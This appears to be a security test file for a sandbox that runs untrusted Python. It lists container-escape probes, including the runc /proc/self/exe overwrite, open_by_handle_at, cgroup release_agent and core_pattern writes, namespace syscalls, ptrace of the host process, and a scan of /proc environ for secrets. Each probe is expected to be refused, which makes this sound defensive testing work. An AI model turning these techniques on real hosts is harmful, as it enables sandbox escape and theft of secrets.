/**
 * The hostile programs of the suite (issue 9), as a table: each case is a real attack or abuse, the
 * backends it applies to, the servers it is granted and the outcome it must get. hostile-harness.ts
 * runs them and, after every one, checks that its sandbox is gone and the bridge is unharmed.
 *
 * Where gVisor's kernel or the embedded sandbox answers differently, the case says so explicitly
 * (`gvisor ? … : …`, with the reason); nothing is loosened to make a runtime pass.
 */
import { existsSync } from 'node:fs';
import { release } from 'node:os';
import { expect } from 'vitest';
import type { RunOutcome, RunStatus } from '../../src/engine/types.js';
import type { RunningBridge, RunResult } from '../helpers/bridge.js';

export type Backend = 'runc' | 'runsc' | 'embedded';
export type Category = 'escape' | 'network' | 'resources' | 'protocol' | 'host-ops' | 'upstream' | 'bridge';

/** Starts the line on which a program reports its sandbox (see the harness). */
export const SANDBOX_MARKER = '\x1e';

/** What one case did: its run(s), and the sandboxes (container hostnames, worker pids) they ran in. */
export interface CaseRun {
  result?: RunResult;
  /** The run's outcome, its stderr without the harness's sandbox line. */
  outcome?: RunOutcome;
  /** Why the client's request failed (cancelled, timed out), when it did. */
  rejection?: Error;
  sandboxes: string[];
  /** The other runs of a case that makes several (their sandboxes are in `sandboxes` too). */
  others?: CaseRun[];
}

export interface Expectation {
  /** `refused`: run_python answered with an error before any program ran; `rejected`: the request failed. */
  status: RunStatus | readonly RunStatus[] | 'refused' | 'rejected';
  error?: RegExp;
  stdout?: string | RegExp;
  check?: (run: CaseRun, context: CaseContext) => void | Promise<void>;
}

export interface RunArgs {
  code: string;
  servers?: string[];
  timeout?: number;
}

export interface CaseContext {
  backend: Backend;
  container: boolean;
  gvisor: boolean;
  secret: string;
  poolSize: number;
  bridgePid: number;
  /** A TCP listener on the host's loopback (the harness counts connections to every listener). */
  hostPort: number;
  /** The host's own non-loopback IPv4 address, listening on `hostPort` too, when it has one. */
  hostAddress: string | undefined;
  /** The name of an abstract Unix socket the host listens on (without the leading NUL). */
  abstractSocket: string;
  /** A Unix socket file the host listens on. */
  hostSocket: string;
  hostConnections(): number;
  /** Directories of the host: the repository, the suite's temporary root, HOME, the bridge's cwd. */
  hostPaths: string[];
  /** A host file holding the secret. */
  secretFile: string;
  stateDir: string;
  /** The runtime's entry point on the host (mounted read-only into containers). */
  runtimeEntry: string;
  bridge: RunningBridge;
  /** Runs a program that reports its sandbox first. */
  run(
    args: RunArgs,
    options?: { signal?: AbortSignal; requestTimeoutMs?: number; anonymous?: boolean },
  ): Promise<CaseRun>;
  /**
   * What a program wrote through the `soak` server's `announce(token, host)`, once it has; undefined
   * when it has not within a minute.
   */
  announced(token: string): Promise<string | undefined>;
  /** Kills a sandbox from outside: `<engine> kill`, or a signal to the worker. */
  killSandbox(sandbox: string, signal?: string): void;
  /** Runs the container engine's CLI. */
  engine(args: string[]): string;
  /** The pid of the engine client (`podman run`) of a container, by its hostname. */
  containerClientOf(sandbox: string): number | undefined;
  /** Names under `<state dir>/skills`. */
  skillFiles(): string[];
  sha256(path: string): string;
  /** Makes the `stall` server hang in its handshake from its next start on (or start normally again). */
  setStall(stalled: boolean): void;
}

export interface HostileCase {
  name: string;
  category: Category;
  /** Default: every backend. */
  backends?: readonly Backend[];
  servers?: string[];
  /** run_python's timeout, seconds. Default 20. */
  timeout?: number;
  code?: string | ((context: CaseContext) => string);
  /** Runs the case itself (several runs, a fault from outside) instead of `code`. */
  drive?: (context: CaseContext) => Promise<CaseRun>;
  expect: Expectation | ((context: CaseContext) => Expectation);
  /** The program cannot say which sandbox ran it (it does not even compile). */
  anonymous?: boolean;
  /** A bug this case found, per backend: the case runs as `it.fails` there until it is fixed. */
  knownBug?: Partial<Record<Backend, string>>;
}

const CONTAINERS = ['runc', 'runsc'] as const;
const EMBEDDED = ['embedded'] as const;
const python = String.raw;
const literal = (value: unknown) => JSON.stringify(value);

/** The JSON object a program printed on its last line. */
function report(run: CaseRun): Record<string, unknown> {
  const lines = (run.outcome?.stdout ?? '').trimEnd().split('\n');
  return JSON.parse(lines.at(-1) ?? 'null');
}

/**
 * `attempt(action)`: what became of an action, as one word — "ok", an errno name (`EPERM`), a refusal
 * of Deno's (`NotCapable`), or the exception's type. Awaits what the action returns when it can.
 */
const ATTEMPT = python`
import errno as _errno, json, os
async def attempt(action):
    try:
        value = action()
        if hasattr(value, "then") or hasattr(value, "__await__"):
            value = await value
        return "ok"
    except BaseException as error:
        text = str(error)
        for word in ("NotCapable", "PermissionDenied"):
            if word in text:
                return word
        if isinstance(error, OSError) and error.errno and type(error).__name__ != "gaierror":
            return _errno.errorcode.get(error.errno, str(error.errno))
        return type(error).__name__
`;

/** `sc(nr, *args)`: a raw system call through libc, "ok" or the errno's name. x86-64 numbers. */
const SYSCALL = python`
import ctypes, errno as _errno, json, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = _libc.syscall(ctypes.c_long(nr), *converted)
    return "ok" if result >= 0 else _errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
`;

/** `channel`: the runtime's request channel, found as hostile code can: it shares the interpreter. */
const GRAB_CHANNEL =
  'import gc\nchannel = next(o for o in gc.get_objects() if type(o).__name__ == "HostChannel")';

/**
 * `forge(data)`: writes raw bytes where the runtime writes its frames. Container: the runtime's
 * protocol fd, found through its writer (looping, as gVisor may write short to the stdio pipe);
 * embedded: the worker's stdout, through `js`.
 */
function forge(context: CaseContext): string {
  if (!context.container) {
    return python`
import js
from pyodide.ffi import to_js
def forge(data):
    view = to_js(data)
    while view.length:
        view = view.subarray(js.Deno.stdout.writeSync(view))
`;
  }
  return python`
import gc, os
writer = next(o for o in gc.get_objects() if type(o).__name__ == "FrameWriter")
proto = writer._fd
def forge(data):
    view = memoryview(data)
    while view:
        view = view[os.write(proto, view):]
`;
}

/** Ends the program's own process at once, without a `done` frame. */
const killSelf = (context: CaseContext) =>
  context.container
    ? 'import os, signal\nos.kill(os.getpid(), signal.SIGKILL)'
    : 'import js\njs.Deno.kill(js.Deno.pid, "SIGKILL")';

const EROFS = 30;
const EACCES = 13;

const memoryLimitMessage = /memory limit \(MCP_BRIDGE_MEMORY=128m\)/;

/** A memory bomb ends with MemoryError, or (containers) with the kernel's kill naming the limit. */
function memoryBombOutcome(context: CaseContext): Expectation {
  // Embedded: the heap is capped exactly; when the runtime itself then fails to report, the worker
  // reports it as `InternalError: MemoryError`.
  if (!context.container) return { status: 'error', error: /^(InternalError: )?MemoryError/ };
  return {
    status: ['error', 'killed'],
    check: ({ outcome }) => {
      if (outcome?.status === 'killed') expect(outcome.error).toMatch(memoryLimitMessage);
      else expect(outcome?.error).toMatch(/^MemoryError/);
    },
  };
}

/** How the bridge describes a sandbox killed with SIGKILL: as the kernel's OOM killer would. */
function memoryHint(context: CaseContext): RegExp {
  const limit = context.container ? '128m' : '256m';
  return new RegExp(
    `killed by the system, most likely for exceeding its memory limit \\(MCP_BRIDGE_MEMORY=${limit}\\)`,
  );
}

function unique(prefix: string): string {
  return `${prefix}-${process.pid}-${Date.now().toString(36)}-${Math.random().toString(36).slice(2, 8)}`;
}

/** The program's first lines: announce the sandbox through the `soak` server, so the test can act on it. */
function announce(token: string, context: CaseContext): string {
  const host = context.container ? '__import__("socket").gethostname()' : 'str(__import__("js").Deno.pid)';
  return `await mcp_soak.announce(token=${literal(token)}, host=${host})\n`;
}

// ---------------------------------------------------------------------------------------------- escape

const ESCAPE: HostileCase[] = [
  {
    name: 'runs locked down: no network, read-only root, noexec /tmp, no caps, uid 65534, empty env',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
import ctypes, json, os, socket, subprocess
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
PR_GET_NO_NEW_PRIVS = 39
report = {"uid": os.getuid(), "gid": os.getgid(), "capeff": status["CapEff"].strip(),
          "nonewprivs": ctypes.CDLL(None).prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
          "status_nonewprivs": status.get("NoNewPrivs", "").strip() or None, "kernel": os.uname().release}
report["interfaces"] = sorted(line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:])
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2)
    report["network"] = "open"
except OSError as error:
    report["network"] = type(error).__name__
def try_write(path):
    try:
        open(path, "w")
        return "writable"
    except OSError as error:
        return error.errno
report["rootfs"] = try_write("/var/tmp/owned")  # world-writable in the image: only the read-only mount stops it
report["usr"] = try_write("/usr/owned")
with open("/tmp/script.sh", "w") as script:
    script.write("#!/bin/sh\necho executed\n")
os.chmod("/tmp/script.sh", 0o755)
try:
    subprocess.run(["/tmp/script.sh"], check=True)
    report["tmp_exec"] = "allowed"
except PermissionError:
    report["tmp_exec"] = "denied"
report["env"] = dict(os.environ)
report["pid1"] = open("/proc/1/cmdline").read().split("\0")[0]
print(json.dumps(report))
`,
    expect: {
      status: 'ok',
      check: (run, context) => {
        const result = report(run);
        expect(result).toMatchObject({
          uid: 65534,
          gid: 65534,
          capeff: '0000000000000000',
          nonewprivs: 1,
          interfaces: ['lo'],
          rootfs: EROFS,
          tmp_exec: 'denied',
        });
        // gVisor's /proc/self/status has no NoNewPrivs line; prctl above reads the same flag from its kernel.
        expect(result.status_nonewprivs).toBe(context.gvisor ? null : '1');
        // gVisor checks permissions before the mount's read-only flag, so a directory uid 65534 may not
        // write anyway fails with EACCES there; /var/tmp (world-writable) proves the root is read-only.
        expect(result.usr).toBe(context.gvisor ? EACCES : EROFS);
        // The program runs on the host's kernel under runc, on gVisor's Sentry under runsc.
        const hostKernel = release();
        if (context.gvisor) expect(result.kernel).not.toBe(hostKernel);
        else expect(result.kernel).toBe(hostKernel);
        expect(result.network).toMatch(/OSError|ConnectionRefusedError|TimeoutError|gaierror/);
        expect(result.pid1).not.toMatch(/python/);
        const env = result.env as Record<string, string>;
        expect(Object.keys(env).sort()).toEqual(expect.arrayContaining(['HOME', 'LANG', 'PATH']));
        for (const key of Object.keys(env)) {
          expect(['HOME', 'LANG', 'PATH', 'HOSTNAME', 'container', 'TERM']).toContain(key);
        }
      },
    },
  },
  {
    name: "sees none of the host's files, also not through /proc/1/root or /proc/self/root",
    category: 'escape',
    backends: CONTAINERS,
    code: (context) => python`
import json, os
seen = {}
for path in ${literal([...context.hostPaths, context.secretFile])}:
    for prefix in ("", "/proc/1/root", "/proc/self/root"):
        seen[prefix + path] = os.path.exists(prefix + path)
print(json.dumps(seen))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const seen = report(run);
        expect(Object.keys(seen).length).toBeGreaterThanOrEqual(15);
        expect(Object.entries(seen).filter(([, exists]) => exists)).toEqual([]);
      },
    },
  },
  {
    name: 'cannot open /proc/self/exe or /proc/1/exe for writing (the runc overwrite, CVE-2019-5736)',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
print(json.dumps({path: await attempt(lambda path=path: os.open(path, os.O_WRONLY)) for path in ("/proc/self/exe", "/proc/1/exe")}))
`,
    // Both binaries are root's, 0755, on a read-only root: refused for permission first.
    expect: { status: 'ok', stdout: '{"/proc/self/exe": "EACCES", "/proc/1/exe": "EACCES"}\n' },
  },
  {
    name: 'cannot mount, pivot_root, chroot, setns or unshare a network or pid namespace',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${SYSCALL}
# gVisor has no /proc/<pid>/ns: setns then gets a bad descriptor, which it must refuse as well.
namespace = os.open("/proc/1/ns/mnt", os.O_RDONLY) if os.path.exists("/proc/1/ns/mnt") else -1
print(json.dumps({
    "mount": sc(165, b"none", b"/tmp", b"tmpfs", 0, 0),
    "umount2": sc(166, b"/workspace", 2),
    "pivot_root": sc(155, b"/tmp", b"/tmp"),
    "chroot": sc(161, b"/tmp"),
    "setns": sc(308, namespace, 0),
    "unshare_net": sc(272, 0x40000000),
    "unshare_pid": sc(272, 0x20000000),
    "open_tree": sc(428, -100, b"/", 1),
    "fsopen": sc(430, b"tmpfs", 0),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(9);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
      },
    },
  },
  {
    name: 'cannot gain capabilities in a user namespace of its own and mount a file system there',
    category: 'escape',
    backends: CONTAINERS,
    // A single-threaded (forked) process: unshare(CLONE_NEWUSER) refuses a multi-threaded caller anyway.
    code: python`
import ctypes, errno, json, os
libc = ctypes.CDLL(None, use_errno=True)
read_end, write_end = os.pipe()
if os.fork() == 0:
    steps = {}
    def step(name, result):
        steps[name] = "ok" if result == 0 else errno.errorcode.get(ctypes.get_errno(), "?")
        return result == 0
    if step("unshare_user", libc.unshare(0x10000000)) and step("unshare_mount", libc.unshare(0x00020000)):
        step("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    os.write(write_end, json.dumps(steps).encode())
    os._exit(0)
os.close(write_end)
os.wait()
print(os.read(read_end, 4096).decode())
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const steps = report(run);
        if (context.gvisor) {
          // gVisor's Sentry creates the namespaces inside the sandbox but still refuses the mount.
          expect(steps).toEqual({ unshare_user: 'ok', unshare_mount: 'ok', mount: 'EPERM' });
        } else {
          // Under runc a user namespace would hand the program CAP_SYS_ADMIN over new namespaces
          // (mount, network, …): the bridge's seccomp profile refuses CLONE_NEWUSER.
          expect(steps).toEqual({ unshare_user: 'EPERM' });
        }
      },
    }),
  },
  {
    name: 'cannot use admin-only kernel interfaces: bpf, userfaultfd, perf_event_open, add_key, request_key',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${SYSCALL}
attr = ctypes.create_string_buffer(128)
print(json.dumps({
    "bpf": sc(321, 0, attr, 128),
    "userfaultfd": sc(323, 0),
    "perf_event_open": sc(298, attr, 0, -1, -1, 0),
    "add_key": sc(248, b"user", b"hostile", b"payload", 7, -3),
    "request_key": sc(249, b"user", b"hostile", 0, 0),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
      },
    },
  },
  {
    name: 'cannot load kernel modules, reboot, kexec, swap, set the clock, raise I/O privilege or read the kernel log',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${SYSCALL}
log = ctypes.create_string_buffer(4096)
results = {
    "init_module": sc(175, 0, 0, b""),
    "finit_module": sc(313, 0, b"", 0),
    "delete_module": sc(176, b"ext4", 0),
    "kexec_load": sc(246, 0, 0, 0, 0),
    "kexec_file_load": sc(320, 0, 0, 0, b"", 0),
    "reboot": sc(169, 0xfee1dead, 672274793, 0x1234567, 0),
    "swapon": sc(167, b"/tmp/swap", 0),
    "settimeofday": sc(164, ctypes.create_string_buffer(16), 0),
    "clock_settime": sc(227, 0, ctypes.create_string_buffer(16)),
    "iopl": sc(172, 3),
    "ioperm": sc(173, 0, 1024, 1),
    "acct": sc(163, b"/tmp/acct"),
    "syslog": sc(103, 3, log, 4096),
}
results["log"] = log.value[:40].decode("latin-1")
print(json.dumps(results))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const { log, syslog, ...results } = report(run);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
        // gVisor answers syslog with its own made-up boot log, not the host's.
        if (context.gvisor) expect(log).toMatch(/Starting gVisor/);
        else expect(syslog).not.toBe('ok');
      },
    }),
  },
  {
    name: "sees only its own sandbox's processes and cannot signal or read the bridge",
    category: 'escape',
    backends: CONTAINERS,
    code: (context) => python`
${SYSCALL}
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
buffer = ctypes.create_string_buffer(8)
iov = (ctypes.c_void_p * 2)(ctypes.cast(buffer, ctypes.c_void_p), 8)
remote = (ctypes.c_void_p * 2)(0x400000, 8)
results = {"pids": pids, "comms": sorted({open(f"/proc/{p}/comm").read().strip() for p in pids})}
try:
    os.kill(${context.bridgePid}, 0)
    results["kill"] = "ok"
except OSError as error:
    results["kill"] = _errno.errorcode[error.errno]
results["process_vm_readv"] = sc(310, ${context.bridgePid}, iov, 1, remote, 1, 0)
results["ptrace"] = sc(101, 16, ${context.bridgePid}, 0, 0)
print(json.dumps(results))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(results.kill).toBe('ESRCH');
        expect(results.process_vm_readv).toBe(context.gvisor ? 'ENOSYS' : 'ESRCH');
        expect(results.ptrace).toBe('ESRCH');
        // The init, the runtime and whatever they started: a handful of small pids, never the bridge's.
        expect((results.pids as number[]).length).toBeLessThan(10);
        expect(results.pids).not.toContain(context.bridgePid);
        for (const comm of results.comms as string[]) expect(['podman-init', 'python3']).toContain(comm);
      },
    }),
  },
  {
    name: 'cannot open files by handle (the "shocker" escape: open_by_handle_at)',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${SYSCALL}
handle = ctypes.create_string_buffer(b"\x08\x00\x00\x00\x01\x00\x00\x00" + b"\x02" + b"\x00" * 7)
print(json.dumps({"open_by_handle_at": sc(304, os.open("/", os.O_RDONLY), handle, 0)}))
`,
    expect: (context) => ({
      status: 'ok',
      stdout: `{"open_by_handle_at": "${context.gvisor ? 'ENOTSUP' : 'EPERM'}"}\n`,
    }),
  },
  {
    name: 'cannot become root: setuid, setgid, setgroups, setresuid, capset',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${SYSCALL}
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
groups = (ctypes.c_uint32 * 1)(0)
print(json.dumps({
    "setuid": sc(105, 0), "setgid": sc(106, 0), "setgroups": sc(116, 1, groups),
    "setresuid": sc(117, 0, 0, 0), "capset": sc(126, header, data), "uid": os.getuid(),
}))
`,
    expect: {
      status: 'ok',
      stdout:
        '{"setuid": "EPERM", "setgid": "EPERM", "setgroups": "EPERM", "setresuid": "EPERM", "capset": "EPERM", "uid": 65534}\n',
    },
  },
  {
    name: 'gains nothing from setuid-root binaries (mount, su) under no_new_privs',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
import json, os, stat, subprocess
report = {binary: bool(os.stat(binary).st_mode & stat.S_ISUID) for binary in ("/usr/bin/mount", "/usr/bin/su")}
mount = subprocess.run(["mount", "-t", "tmpfs", "none", "/tmp"], capture_output=True, text=True)
su = subprocess.run(["su", "-c", "id -u"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=10)
report["mount"] = [mount.returncode, mount.stderr.strip()]
report["su"] = [su.returncode, su.stdout.strip(), su.stderr.strip()]
print(json.dumps(report))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const result = report(run);
        // The test means something only while these binaries really are setuid root in the image.
        expect(result).toMatchObject({ '/usr/bin/mount': true, '/usr/bin/su': true });
        const [mountCode, mountError] = result.mount as [number, string];
        expect(mountCode).not.toBe(0);
        expect(mountError).toMatch(/must be superuser|permission denied|only root/i);
        const [suCode, suOut] = result.su as [number, string];
        expect(suCode).not.toBe(0);
        expect(suOut).toBe('');
      },
    },
  },
  {
    name: 'cannot clear no_new_privs or raise ambient capabilities',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
import ctypes, errno, json
libc = ctypes.CDLL(None, use_errno=True)
def prctl(*args):
    result = libc.prctl(*args)
    return result if result >= 0 else errno.errorcode[ctypes.get_errno()]
print(json.dumps({
    "clear": prctl(38, 0, 0, 0, 0),
    "ambient_raise": prctl(47, 2, 21, 0, 0),
    "still_set": prctl(39, 0, 0, 0, 0),
}))
`,
    // gVisor refuses to raise an ambient capability that is not permitted with EINVAL, Linux with EPERM.
    expect: (context) => ({
      status: 'ok',
      stdout: `{"clear": "EINVAL", "ambient_raise": "${context.gvisor ? 'EINVAL' : 'EPERM'}", "still_set": 1}\n`,
    }),
  },
  {
    name: 'cannot escape through cgroups: release_agent, notify_on_release, its own limits, a cgroup mount',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
${SYSCALL}
def write(path, data):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
print(json.dumps({
    "release_agent": await attempt(lambda: write("/sys/fs/cgroup/memory/release_agent", b"/tmp/x")),
    "rdma_release_agent": await attempt(lambda: write("/sys/fs/cgroup/rdma/release_agent", b"/tmp/x")),
    "notify_on_release": await attempt(lambda: write("/sys/fs/cgroup/memory/notify_on_release", b"1")),
    "new_cgroup": await attempt(lambda: os.mkdir("/sys/fs/cgroup/memory/escape")),
    "memory_limit": await attempt(lambda: write("/sys/fs/cgroup/memory/memory.limit_in_bytes", b"-1")),
    "pids_max": await attempt(lambda: write("/sys/fs/cgroup/pids/pids.max", b"max")),
    "unified_memory_max": await attempt(lambda: write("/sys/fs/cgroup/memory.max", b"max")),
    "mount_cgroup": sc(165, b"cgroup", b"/tmp", b"cgroup", 0, b"memory"),
}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(8);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
      },
    },
  },
  {
    name: 'cannot write /proc/sys, core_pattern, sysrq-trigger or /sys',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
def write(path, data):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)
print(json.dumps({path: await attempt(lambda path=path: write(path, b"|/tmp/x")) for path in (
    "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
    "/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/sys/kernel/mm/transparent_hugepage/enabled",
    "/sys/kernel/uevent_helper", "/sys/power/state",
)}))
`,
    expect: {
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(Object.keys(results)).toHaveLength(8);
        expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
      },
    },
  },
  {
    name: 'has only the standard devices and cannot make or open a host device',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
${SYSCALL}
results = {"dev": sorted(os.listdir("/dev"))}
for name, kind, major, minor in (("mem", 0o20000, 1, 1), ("kmsg", 0o20000, 1, 11), ("sda", 0o60000, 8, 0)):
    path = "/tmp/" + name
    results["mknod_" + name] = sc(133, path.encode(), kind | 0o666, (major << 8) | minor)
    results["open_" + name] = await attempt(lambda path=path: os.open(path, os.O_RDONLY))
for name in ("mem", "kmem", "port", "kmsg", "sda", "vda", "fuse", "net/tun"):
    results["dev_" + name] = os.path.exists("/dev/" + name)
print(json.dumps(results))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        for (const name of ['mem', 'kmem', 'port', 'kmsg', 'sda', 'vda', 'fuse', 'net/tun']) {
          // gVisor's /dev has a fuse device of its own, served by the Sentry; using it needs mount(2),
          // which is refused (see the mount case).
          if (name === 'fuse' && context.gvisor) continue;
          // Its tun device is the Sentry's too, in a network stack with no interface but loopback
          // (network=none); configuring one needs CAP_NET_ADMIN, which no process holds.
          if (name === 'net/tun' && context.gvisor) continue;
          expect(results[`dev_${name}`], name).toBe(false);
        }
        for (const name of ['mem', 'kmsg', 'sda']) {
          // gVisor lets mknod through (it serves its own devices, and none of these), so the open is
          // what must fail there; the host kernel refuses the mknod itself (no CAP_MKNOD).
          if (context.gvisor) expect(results[`open_${name}`], name).not.toBe('ok');
          else expect(results[`mknod_${name}`], name).toBe('EPERM');
        }
      },
    }),
  },
  {
    name: "cannot change the runtime mounted from the host (and the host's copy stays intact)",
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
entry = "/opt/codemode/entry.py"
print(json.dumps({
    "append": await attempt(lambda: os.open(entry, os.O_WRONLY | os.O_APPEND)),
    "truncate": await attempt(lambda: os.truncate(entry, 0)),
    "chmod": await attempt(lambda: os.chmod(entry, 0o777)),
    "utime": await attempt(lambda: os.utime(entry)),
    "rename": await attempt(lambda: os.rename(entry, "/opt/codemode/moved.py")),
    "unlink": await attempt(lambda: os.unlink(entry)),
    "create": await attempt(lambda: os.open("/opt/codemode/new.py", os.O_CREAT | os.O_WRONLY)),
    "mkdir": await attempt(lambda: os.mkdir("/opt/codemode/codemode_runtime/x")),
}))
`,
    expect: (context) => {
      const before = context.sha256(context.runtimeEntry);
      return {
        status: 'ok',
        check: (run) => {
          const results = report(run);
          expect(Object.keys(results)).toHaveLength(8);
          expect(Object.entries(results).filter(([, result]) => result === 'ok')).toEqual([]);
          expect(context.sha256(context.runtimeEntry)).toBe(before);
        },
      };
    },
  },
  {
    name: 'gets nothing through symlinks and hard links in /tmp and /workspace',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
os.symlink("/etc/shadow", "/tmp/shadow")
os.symlink("/opt/codemode/entry.py", "/workspace/entry")
os.symlink("/", "/tmp/root")
print(json.dumps({
    "shadow": await attempt(lambda: open("/tmp/shadow").read()),
    "runtime": await attempt(lambda: os.open("/workspace/entry", os.O_WRONLY | os.O_APPEND)),
    "passwd": await attempt(lambda: os.open("/tmp/root/etc/passwd", os.O_WRONLY | os.O_APPEND)),
    "hardlink": await attempt(lambda: os.link("/opt/codemode/entry.py", "/tmp/entry")),
    "hardlink_shadow": await attempt(lambda: os.link("/etc/shadow", "/workspace/shadow")),
}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(results.shadow).toBe('EACCES');
        expect(results.runtime).toMatch(/^(EACCES|EROFS)$/);
        expect(results.passwd).toMatch(/^(EACCES|EROFS)$/);
        expect(results.hardlink).toBe('EXDEV');
        expect(results.hardlink_shadow).toBe(context.gvisor ? 'EXDEV' : 'EXDEV');
      },
    }),
  },
  {
    name: 'cannot execute programs from /tmp, /workspace or /dev/shm (noexec), not even through ld.so',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
import json, os, shutil, subprocess
results = {}
for directory in ("/tmp", "/workspace", "/dev/shm"):
    target = directory + "/true"
    shutil.copy("/bin/true", target)
    os.chmod(target, 0o755)
    try:
        results[directory] = subprocess.run([target]).returncode
    except PermissionError:
        results[directory] = "EACCES"
loader = subprocess.run(["/lib64/ld-linux-x86-64.so.2", "/tmp/true"], capture_output=True, text=True)
results["ld.so"] = [loader.returncode, loader.stderr.strip()[:200]]
print(json.dumps(results))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        expect(results).toMatchObject({ '/tmp': 'EACCES', '/workspace': 'EACCES', '/dev/shm': 'EACCES' });
        const [code, message] = results['ld.so'] as [number, string];
        if (context.gvisor) {
          // gVisor enforces noexec on execve only: the loader maps /tmp/true and runs it.
          expect(code).toBe(0);
        } else {
          expect(code).not.toBe(0);
          expect(message).toMatch(/failed to map segment/);
        }
      },
    }),
  },
  {
    name: 'cannot load a shared object it wrote to /tmp through ctypes (noexec mmap)',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
import ctypes, shutil
shutil.copy("/lib/x86_64-linux-gnu/libm.so.6", "/tmp/libhostile.so")
try:
    ctypes.CDLL("/tmp/libhostile.so")
    print("loaded")
except OSError as error:
    print("refused:", error)
`,
    // gVisor does not apply noexec to mmap(PROT_EXEC): the library loads. (ctypes can map executable
    // memory anyway, so neither runtime stops native code; noexec keeps /tmp for data.)
    expect: (context) =>
      context.gvisor
        ? { status: 'ok', stdout: 'loaded\n' }
        : { status: 'ok', stdout: 'refused: /tmp/libhostile.so: failed to map segment from shared object\n' },
  },
  {
    name: 'has no capability: chown to root, binding port 80, raising a hard limit, lowering oom_score_adj',
    category: 'escape',
    backends: CONTAINERS,
    code: python`
${ATTEMPT}
import resource, socket
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
open("/tmp/owned", "w").close()
# One above the hard limit the sandbox was given, whatever that is (gVisor's differs from runc's).
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
def lower_oom():
    fd = os.open("/proc/self/oom_score_adj", os.O_WRONLY)
    try:
        os.write(fd, b"-1000")
    finally:
        os.close(fd)
print(json.dumps({
    "caps": {name: status.get(name, "absent").strip() for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")},
    "chown": await attempt(lambda: os.chown("/tmp/owned", 0, 0)),
    "port80": await attempt(lambda: socket.socket().bind(("127.0.0.1", 80))),
    "rlimit": await attempt(lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))),
    "oom_score_adj": await attempt(lower_oom),
}))
`,
    expect: (context) => ({
      status: 'ok',
      check: (run) => {
        const results = report(run);
        const zero = '0000000000000000';
        expect(results.caps).toEqual({
          CapInh: zero,
          CapPrm: zero,
          CapEff: zero,
          CapBnd: zero,
          // gVisor's /proc/self/status has no CapAmb line.
          CapAmb: context.gvisor ? 'absent' : zero,
        });
        expect(results.chown).toBe('EPERM');
        expect(results.rlimit).toBe('ValueError'); // "not allowed to raise maximum limit" (EPERM)
        expect(results.port80).toBe(context.gvisor ? 'ok' : 'EACCES');
        // gVisor keeps oom_score_adj inside its own kernel; the host's OOM killer never reads it.
        expect(results.oom_score_adj).toBe(context.gvisor ? 'ok' : 'EACCES');
      },
    }),
  },
  {
    name: "never sees the bridge's or the upstream servers' secret: environ of every process, the interpreter's objects",
    category: 'escape',
    code: (context) => python`
import gc, json, os
needle = ${literal([...context.secret].reverse().join(''))}[::-1]
found = []
if os.path.isdir("/proc"):
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    if needle.encode() in file.read():
                        found.append(f"/proc/{pid}/{name}")
            except OSError:
                pass
